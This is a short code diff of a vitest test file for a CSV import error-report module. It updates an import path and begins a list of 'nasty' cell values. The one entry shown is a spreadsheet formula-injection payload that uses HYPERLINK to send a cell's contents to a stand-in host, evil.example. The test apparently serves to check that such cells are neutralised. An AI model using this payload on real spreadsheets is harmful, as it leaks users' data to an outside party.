@@ -1,6 +1,6 @@
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
-import { neutraliseCell, restoreCell, writeErrorReport, type ErrorReportRow } from '@/lib/import/error-report';
+import { neutraliseCell, restoreCell, writeErrorReport, type ErrorReportRow } from '@/lib/import/jobs/reports/error-report';
 
 const NASTY = [
   '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
